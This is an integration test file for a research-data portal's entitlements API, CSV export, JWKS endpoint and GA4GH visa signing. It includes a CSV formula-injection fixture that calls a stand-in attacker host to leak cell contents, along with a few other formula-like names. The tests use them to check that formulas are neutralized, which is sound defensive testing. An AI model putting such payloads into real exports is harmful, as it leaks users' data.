import request from 'supertest';
import {
  createLocalJWKSet,
  decodeProtectedHeader,
  exportJWK,
  generateKeyPair,
  jwtVerify,
  type JSONWebKeySet,
} from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AccessState, Entitlement, RequestFormat } from '@portal/shared';
import { userWithSession, type TestUser } from '../helpers/sessions';
import { bootStrapi, type TestApp } from '../helpers/strapi';
import { createDataset, seedRequest } from '../helpers/workflow';

/**
 * Entitlements and GA4GH visas (docs/api/entitlements.md): who sees which rows and filters, the
 * CSV, the JWKS at the root, and visas verified against it — one per dataset whose access runs
 * now, none for pending, ended, revoked, closed-out or future access. The access periods and
 * their entitlement rows are written directly, as the requests module's store writes them.
 */
const PERIOD_UID = 'api::access-period.access-period';
const ENTITLEMENT_UID = 'api::entitlement.entitlement';
const WEB_URL = 'https://portal.example.org';
const ISSUER = 'https://cms.example.org';
const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

type Session = TestUser & { auth: string };
type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

interface Dataset {
  documentId: string;
  title: string;
  slug: string;
}

let app: TestApp;
let alice: Session;
let bob: Session;
let manager: Session;
let readonly: Session;
const datasets: Record<'cohort' | 'air' | 'registry' | 'evil' | 'revoked', Dataset> = {} as never;

const DAY = 24 * 60 * 60 * 1000;
// Whole seconds: a visa's `exp` and `asserted` are seconds, and the fixture compares them exactly.
const NOW = Math.floor(Date.now() / 1000) * 1000;
const at = (offsetMs: number) => new Date(NOW + offsetMs);

interface Grant {
  owner: Session;
  datasets: Dataset[];
  state: AccessState;
  startsAt: Date | null;
  endsAt: Date | null;
  format?: RequestFormat;
  title?: string;
}

/** An approved request with its access period and one entitlement per dataset, as the store writes them. */
async function grant(input: Grant): Promise<{ requestId: string; periodId: number }> {
  const format = input.format ?? 'v2';
  const requestId = await seedRequest(app, {
    format,
    requester: input.owner,
    requestStatus: 'complete',
    approvalStatus: 'approved',
    projectTitle: input.title,
    datasets: input.datasets.map((dataset) => dataset.documentId),
  });
  const period = (await app.strapi.db.query(PERIOD_UID).create({
    data: {
      requestDocumentId: requestId,
      format,
      userId: input.owner.id,
      state: input.state,
      startsAt: input.startsAt,
      endsAt: input.endsAt,
      extensionState: 'none',
      closeoutState: 'none',
      datasets: input.datasets,
    },
  })) as { id: number };
  for (const dataset of input.datasets)
    await app.strapi.db.query(ENTITLEMENT_UID).create({
      data: {
        accessPeriodId: period.id,
        userId: input.owner.id,
        datasetDocumentId: dataset.documentId,
        requestDocumentId: requestId,
        format,
        state: input.state,
        startsAt: input.startsAt,
        endsAt: input.endsAt,
      },
    });
  return { requestId, periodId: period.id };
}

const list = (user: Session | null, query = '') => {
  const call = request(app.server).get(`/api/entitlements${query}`);
  return user ? call.set('Authorization', user.auth) : call;
};
const visas = (user: Session | null) => {
  const call = request(app.server).get('/api/ga4gh/visas');
  return user ? call.set('Authorization', user.auth) : call;
};
/** (user, dataset, request) of each line, sorted: what a filter selected. */
const lines = (body: Json) =>
  (body.data as Entitlement[])
    .map((item) => `${item.user?.documentId}/${item.dataset.documentId}/${item.request.documentId}`)
    .sort();
const line = (user: Session, dataset: Dataset, requestId: string) =>
  `${user.documentId}/${dataset.documentId}/${requestId}`;

let requests: Record<'active' | 'ended' | 'pending' | 'closedOut' | 'future' | 'bob' | 'dated', string>;

beforeAll(async () => {
  app = await bootStrapi({ env: { WEB_URL, VISA_ISSUER: ISSUER } });
  alice = await userWithSession(app, 'authenticated', { firstName: 'Alice', lastName: 'Applicant' });
  // A name a spreadsheet would run as a formula.
  bob = await userWithSession(app, 'authenticated', { firstName: '@SUM(A1)', lastName: 'Bobson' });
  manager = await userWithSession(app, 'queue-manager');
  readonly = await userWithSession(app, 'readonly-user');
  const make = async (slug: string, title: string): Promise<Dataset> => ({
    documentId: await createDataset(app, slug, title),
    title,
    slug,
  });
  Object.assign(datasets, {
    cohort: await make('ent-cohort', 'Entitlement Cohort'),
    air: await make('ent-air', 'Entitlement Air Quality'),
    registry: await make('ent-registry', 'Entitlement Registry'),
    evil: await make('ent-evil', INJECTION),
    revoked: await make('ent-revoked', 'Entitlement Revoked Study'),
  });
  const { cohort, air, registry, evil } = datasets;
  requests = {
    // Alice: access running now to two datasets…
    active: (
      await grant({
        owner: alice,
        datasets: [cohort, air],
        state: 'active',
        startsAt: at(-30 * DAY),
        endsAt: at(60 * DAY),
        title: 'Running project',
      })
    ).requestId,
    // …one that ended ten days ago, one waiting for the signature, one closed out, one not begun.
    ended: (
      await grant({
        owner: alice,
        datasets: [registry],
        state: 'ended',
        startsAt: at(-200 * DAY),
        endsAt: at(-10 * DAY),
      })
    ).requestId,
    pending: (await grant({ owner: alice, datasets: [air], state: 'pending', startsAt: null, endsAt: null })).requestId,
    closedOut: (
      await grant({
        owner: alice,
        datasets: [cohort],
        state: 'closedOut',
        startsAt: at(-400 * DAY),
        endsAt: at(-100 * DAY),
      })
    ).requestId,
    future: (
      await grant({
        owner: alice,
        datasets: [registry],
        state: 'active',
        startsAt: at(10 * DAY),
        endsAt: at(100 * DAY),
      })
    ).requestId,
    // Bob: a v1 request running now, on a dataset whose title is a formula.
    bob: (
      await grant({
        owner: bob,
        format: 'v1',
        datasets: [cohort, evil],
        state: 'active',
        startsAt: at(-5 * DAY),
        endsAt: at(5 * DAY),
        title: '+Bob project',
      })
    ).requestId,
    // Bob, long ago: whole days of the committee's calendar (UTC by default).
    dated: (
      await grant({
        owner: bob,
        datasets: [air],
        state: 'closedOut',
        startsAt: new Date('2025-12-01T15:00:00Z'),
        endsAt: new Date('2026-02-01T00:00:00Z'),
      })
    ).requestId,
  };
});

afterAll(async () => {
  await app?.stop();
});

describe('GET /api/entitlements', () => {
  it('401 without a session', async () => {
    const res = await list(null);
    expect(res.status).toBe(401);
    expect(res.body.error.message).toBe('User is not logged in');
  });

  it('gives staff every line, newest first, in the shared Entitlement shape', async () => {
    const res = await list(manager, '?pageSize=100');
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.body.meta.pagination).toEqual({ page: 1, pageSize: 100, pageCount: 1, total: 9 });
    // The last written first.
    expect(res.body.data[0].request.documentId).toBe(requests.dated);
    const running = (res.body.data as Entitlement[]).find(
      (item) => item.request.documentId === requests.active && item.dataset.documentId === datasets.air.documentId,
    );
    expect(running).toEqual({
      user: { documentId: alice.documentId, email: alice.email, firstName: 'Alice', lastName: 'Applicant' },
      dataset: {
        documentId: datasets.air.documentId,
        title: 'Entitlement Air Quality',
        slug: 'ent-air',
        url: `${WEB_URL}/en/dataset/${datasets.air.documentId}`,
      },
      request: { documentId: requests.active, format: 'v2', projectTitle: 'Running project' },
      state: 'active',
      startsAt: at(-30 * DAY).toISOString(),
      endsAt: at(60 * DAY).toISOString(),
      active: true,
    });
    const pending = (res.body.data as Entitlement[]).find((item) => item.request.documentId === requests.pending);
    expect(pending).toMatchObject({ state: 'pending', startsAt: null, endsAt: null, active: false });
    const future = (res.body.data as Entitlement[]).find((item) => item.request.documentId === requests.future);
    expect(future?.active).toBe(false);
  });

  it('every internal role reads them (read-only staff included)', async () => {
    const res = await list(readonly);
    expect(res.status).toBe(200);
    expect(res.body.meta.pagination.total).toBe(9);
  });

  it('pages: page and pageSize, with the count', async () => {
    const first = await list(manager, '?pageSize=4');
    const third = await list(manager, '?pageSize=4&page=3');
    expect(first.body.meta.pagination).toEqual({ page: 1, pageSize: 4, pageCount: 3, total: 9 });
    expect(first.body.data).toHaveLength(4);
    expect(third.body.data).toHaveLength(1);
    const beyond = await list(manager, '?pageSize=4&page=9');
    expect(beyond.status).toBe(200);
    expect(beyond.body.data).toEqual([]);
  });

  it('filters staff lists by user, by dataset (documentId or slug), and combines them', async () => {
    const bobs = await list(manager, `?user=${bob.documentId}`);
    expect(lines(bobs.body)).toEqual(
      [
        line(bob, datasets.cohort, requests.bob),
        line(bob, datasets.evil, requests.bob),
        line(bob, datasets.air, requests.dated),
      ].sort(),
    );
    const cohortBySlug = await list(manager, '?dataset=ent-cohort');
    const cohortById = await list(manager, `?dataset=${datasets.cohort.documentId}`);
    expect(lines(cohortBySlug.body)).toEqual(
      [
        line(alice, datasets.cohort, requests.active),
        line(alice, datasets.cohort, requests.closedOut),
        line(bob, datasets.cohort, requests.bob),
      ].sort(),
    );
    expect(lines(cohortById.body)).toEqual(lines(cohortBySlug.body));
    const both = await list(manager, `?dataset=ent-cohort&user=${alice.documentId}`);
    expect(lines(both.body)).toEqual(
      [line(alice, datasets.cohort, requests.active), line(alice, datasets.cohort, requests.closedOut)].sort(),
    );
    // Unknown user or dataset: nothing matches (not an error).
    for (const query of ['?user=nobodyAtAll123', '?dataset=no-such-dataset']) {
      const res = await list(manager, query);
      expect(res.status, query).toBe(200);
      expect(res.body.meta.pagination.total, query).toBe(0);
    }
  });

  it('activeOn=now: access running now (not pending, not ended, not closed out, not future)', async () => {
    const res = await list(manager, '?activeOn=now');
    expect(lines(res.body)).toEqual(
      [
        line(alice, datasets.cohort, requests.active),
        line(alice, datasets.air, requests.active),
        line(bob, datasets.cohort, requests.bob),
        line(bob, datasets.evil, requests.bob),
      ].sort(),
    );
    expect((res.body.data as Entitlement[]).every((item) => item.active)).toBe(true);
  });

  it('activeOn=<date>: running at some moment of that day — the first and the last day count', async () => {
    const dated = [line(bob, datasets.air, requests.dated)];
    const on = async (date: string) =>
      lines((await list(manager, `?activeOn=${date}&user=${bob.documentId}&dataset=ent-air`)).body);
    // Begun at 15:00 on 1 December; ends at midnight after 31 January (its last day).
    expect(await on('2025-11-30')).toEqual([]);
    expect(await on('2025-12-01')).toEqual(dated);
    expect(await on('2026-01-31')).toEqual(dated);
    expect(await on('2026-02-01')).toEqual([]);
    // 150 days ago: the ended and the closed-out access ran; the running one had not begun.
    const past = new Date(NOW - 150 * DAY).toISOString().slice(0, 10);
    const res = await list(manager, `?activeOn=${past}&user=${alice.documentId}`);
    expect(lines(res.body)).toEqual(
      [line(alice, datasets.registry, requests.ended), line(alice, datasets.cohort, requests.closedOut)].sort(),
    );
  });

  it('an applicant sees their own lines only, with the same filters', async () => {
    const own = await list(alice, '?pageSize=100');
    expect(own.status).toBe(200);
    expect(own.body.meta.pagination.total).toBe(6);
    expect((own.body.data as Entitlement[]).every((item) => item.user?.documentId === alice.documentId)).toBe(true);
    expect(JSON.stringify(own.body)).not.toContain(bob.email);
    // The dataset Bob also holds: Alice's lines only.
    const cohort = await list(alice, '?dataset=ent-cohort');
    expect(lines(cohort.body)).toEqual(
      [line(alice, datasets.cohort, requests.active), line(alice, datasets.cohort, requests.closedOut)].sort(),
    );
    expect(lines((await list(bob, '?activeOn=now')).body)).toEqual(
      [line(bob, datasets.cohort, requests.bob), line(bob, datasets.evil, requests.bob)].sort(),
    );
    // Naming themselves is fine.
    expect((await list(alice, `?user=${alice.documentId}`)).body.meta.pagination.total).toBe(6);
  });

  it('403 when an applicant names another user (never someone else’s lines, never an empty answer for them)', async () => {
    for (const user of [bob.documentId, 'nobodyAtAll123']) {
      const res = await list(alice, `?user=${user}`);
      expect(res.status).toBe(403);
      expect(res.body.error).toMatchObject({
        name: 'PolicyError',
        message: 'Only internal staff can do this',
        details: { code: 'auth.staff_only' },
      });
    }
    const csv = await list(alice, `?user=${bob.documentId}&format=csv`);
    expect(csv.status).toBe(403);
  });

  it.each([
    ['?activeOn=tomorrow', 'activeOn must be a date (YYYY-MM-DD) or now', 'query.active_on_invalid'],
    ['?activeOn=2026-02-30', 'activeOn must be a date (YYYY-MM-DD) or now', 'query.active_on_invalid'],
    ['?user=not-a-documentId!', "user must be a user's documentId", 'query.user_invalid'],
    ['?dataset=bad%24slug', 'dataset must be a dataset documentId or slug', 'query.dataset_invalid'],
    ['?format=xml', 'format must be json or csv', 'query.report_format_invalid'],
    ['?page=0', 'page must be a positive integer', 'query.positive_integer'],
    ['?pageSize=abc', 'pageSize must be a positive integer', 'query.positive_integer'],
    ['?pageSize=101', 'pageSize must be at most 100', 'query.page_size_max'],
    ['?user=a&user=b', 'user must be a single value', 'query.single_value'],
    ['?activeOn[x]=1', 'activeOn must be a single value', 'query.single_value'],
  ])('400 for %s', async (query, message, code) => {
    const res = await list(manager, query);
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ name: 'ValidationError', message, details: { code } });
  });
});

describe('GET /api/entitlements as CSV', () => {
  const parseCsv = (text: string) =>
    text
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);

  it('format=csv: every match, a header row, a download, formula cells neutralized', async () => {
    const res = await list(manager, '?format=csv&pageSize=1');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="entitlements-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(res.text);
    expect(rows[0]).toBe(
      'User,Email,User ID,Dataset,Dataset ID,Dataset URL,Request ID,Request format,Project title,Access,Starts at,Ends at,Active now',
    );
    // pageSize is ignored: the file holds all nine lines.
    expect(rows).toHaveLength(10);
    const evil = rows.find((row) => row.includes(datasets.evil.documentId));
    expect(evil).toBe(
      [
        "'@SUM(A1) Bobson",
        bob.email,
        bob.documentId,
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`,
        datasets.evil.documentId,
        `${WEB_URL}/en/dataset/${datasets.evil.documentId}`,
        requests.bob,
        'v1',
        "'+Bob project",
        'Active',
        at(-5 * DAY).toISOString(),
        at(5 * DAY).toISOString(),
        'Yes',
      ].join(','),
    );
    expect(rows.find((row) => row.includes(requests.pending))).toContain(',Pending,,,No');
  });

  it('Accept: text/csv answers CSV too, with the same filters; locale=fr writes French headers', async () => {
    const res = await list(manager, `?activeOn=now&user=${alice.documentId}&locale=fr`).set('Accept', 'text/csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = parseCsv(res.text);
    expect(rows[0]?.split(',').slice(0, 4)).toEqual(['Utilisateur', 'Courriel', 'ID utilisateur', 'Jeu de données']);
    expect(rows).toHaveLength(3);
    expect(rows.slice(1).every((row) => row.includes(',Actif,') && row.endsWith(',Oui'))).toBe(true);
  });

  it('an applicant downloads their own lines; a bad query is a 400, not a broken file', async () => {
    const res = await list(bob, '?format=csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text);
    expect(rows).toHaveLength(4);
    expect(rows.slice(1).every((row) => row.includes(bob.documentId))).toBe(true);
    expect(res.text).not.toContain(alice.email);
    const bad = await list(bob, '?format=csv&activeOn=yesterday');
    expect(bad.status).toBe(400);
    expect(bad.headers['content-type']).toMatch(/application\/json/);
  });
});

describe('GET /.well-known/jwks.json', () => {
  it('is public and cacheable: the current public key, RS256, for signatures, no private part', async () => {
    const res = await request(app.server).get('/.well-known/jwks.json');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.headers['cache-control']).toBe('public, max-age=300');
    expect(res.body.keys).toHaveLength(1);
    const [key] = res.body.keys as Json[];
    expect(Object.keys(key!).sort()).toEqual(['alg', 'e', 'kid', 'kty', 'n', 'use']);
    expect(key).toMatchObject({ kty: 'RSA', alg: 'RS256', use: 'sig', e: 'AQAB' });
    expect(typeof key!.kid).toBe('string');
    // Only under the root: the API prefix does not serve it.
    expect((await request(app.server).get('/api/.well-known/jwks.json')).status).toBe(404);
  });
});

describe('GET /api/ga4gh/visas', () => {
  let jwks: JSONWebKeySet;
  beforeAll(async () => {
    jwks = (await request(app.server).get('/.well-known/jwks.json')).body as JSONWebKeySet;
  });

  /** Every visa verified against the served JWKS, with its header and claims. */
  async function verified(user: Session) {
    const res = await visas(user);
    expect(res.status).toBe(200);
    expect(res.headers['cache-control']).toBe('private, no-store');
    expect(Object.keys(res.body)).toEqual(['ga4gh_passport_v1']);
    return Promise.all(
      (res.body.ga4gh_passport_v1 as string[]).map(async (token) => {
        const { payload, protectedHeader } = await jwtVerify(token, createLocalJWKSet(jwks), {
          issuer: ISSUER,
          algorithms: ['RS256'],
          typ: 'JWT',
        });
        return { payload: payload as Json, header: protectedHeader as Json };
      }),
    );
  }

  it('401 without a session', async () => {
    const res = await visas(null);
    expect(res.status).toBe(401);
    expect(res.body.error.message).toBe('User is not logged in');
  });

  it('one verified visa per dataset whose access runs now; claims exactly as the spec asks', async () => {
    const before = Math.floor(Date.now() / 1000);
    const found = await verified(alice);
    const after = Math.floor(Date.now() / 1000);
    expect(found.map(({ payload }) => payload.ga4gh_visa_v1.value).sort()).toEqual(
      [datasets.cohort, datasets.air].map((dataset) => `${WEB_URL}/en/dataset/${dataset.documentId}`).sort(),
    );
    const kid = jwks.keys[0]!.kid;
    for (const { payload, header } of found) {
      expect(header).toEqual({ alg: 'RS256', kid, typ: 'JWT', jku: `${ISSUER}/.well-known/jwks.json` });
      expect(Object.keys(payload).sort()).toEqual(['exp', 'ga4gh_visa_v1', 'iat', 'iss', 'jti', 'sub']);
      expect(payload.iss).toBe(ISSUER);
      expect(payload.sub).toBe(alice.documentId);
      expect(payload.iat).toBeGreaterThanOrEqual(before);
      expect(payload.iat).toBeLessThanOrEqual(after);
      // exp is the end of access.
      expect(payload.exp).toBe(at(60 * DAY).getTime() / 1000);
      expect(payload.jti).toMatch(/^[0-9a-f-]{36}$/);
      expect(payload.ga4gh_visa_v1).toEqual({
        type: 'ControlledAccessGrants',
        asserted: at(-30 * DAY).getTime() / 1000,
        value: payload.ga4gh_visa_v1.value,
        source: WEB_URL,
        by: 'dac',
      });
    }
    expect(new Set(found.map(({ payload }) => payload.jti)).size).toBe(found.length);
  });

  it('Bob’s visas are his (subject and datasets), signed by the same key', async () => {
    const found = await verified(bob);
    expect(found.map(({ payload }) => payload.sub)).toEqual([bob.documentId, bob.documentId]);
    expect(found.map(({ payload }) => payload.ga4gh_visa_v1.value).sort()).toEqual(
      [datasets.cohort, datasets.evil].map((dataset) => `${WEB_URL}/en/dataset/${dataset.documentId}`).sort(),
    );
    expect(found.every(({ payload }) => payload.exp === at(5 * DAY).getTime() / 1000)).toBe(true);
  });

  it('staff without entitlements get an empty passport', async () => {
    expect((await visas(manager)).body).toEqual({ ga4gh_passport_v1: [] });
  });

  it('access ended early (endsAt moved to now) stops the visa at once', async () => {
    const { periodId, requestId } = await grant({
      owner: alice,
      datasets: [datasets.revoked],
      state: 'active',
      startsAt: at(-DAY),
      endsAt: at(30 * DAY),
    });
    const url = `${WEB_URL}/en/dataset/${datasets.revoked.documentId}`;
    const running = await verified(alice);
    expect(running.map(({ payload }) => payload.ga4gh_visa_v1.value)).toContain(url);

    // Staff end access now: the store moves the end of the period and of its entitlements.
    const ended = { state: 'ended', endsAt: new Date() };
    await app.strapi.db.query(PERIOD_UID).update({ where: { id: periodId }, data: ended });
    await app.strapi.db.query(ENTITLEMENT_UID).updateMany({ where: { accessPeriodId: periodId }, data: ended });

    const after = await verified(alice);
    expect(after.map(({ payload }) => payload.ga4gh_visa_v1.value)).not.toContain(url);
    expect(after).toHaveLength(2);
    // It no longer runs now, but it ran today.
    const now = await list(manager, `?activeOn=now&dataset=ent-revoked`);
    expect(now.body.data).toEqual([]);
    const today = await list(manager, `?activeOn=${new Date().toISOString().slice(0, 10)}&dataset=ent-revoked`);
    expect(lines(today.body)).toEqual([line(alice, datasets.revoked, requestId)]);
  });

  it('a visa does not verify against another key under the same kid', async () => {
    const [token] = (await visas(alice)).body.ga4gh_passport_v1 as string[];
    const { kid } = decodeProtectedHeader(token!);
    expect(kid).toBe(jwks.keys[0]!.kid);
    const { publicKey } = await generateKeyPair('RS256');
    const impostor = { keys: [{ ...(await exportJWK(publicKey)), kid, alg: 'RS256', use: 'sig' }] };
    await expect(jwtVerify(token!, createLocalJWKSet(impostor))).rejects.toThrow(/signature/);
  });
});
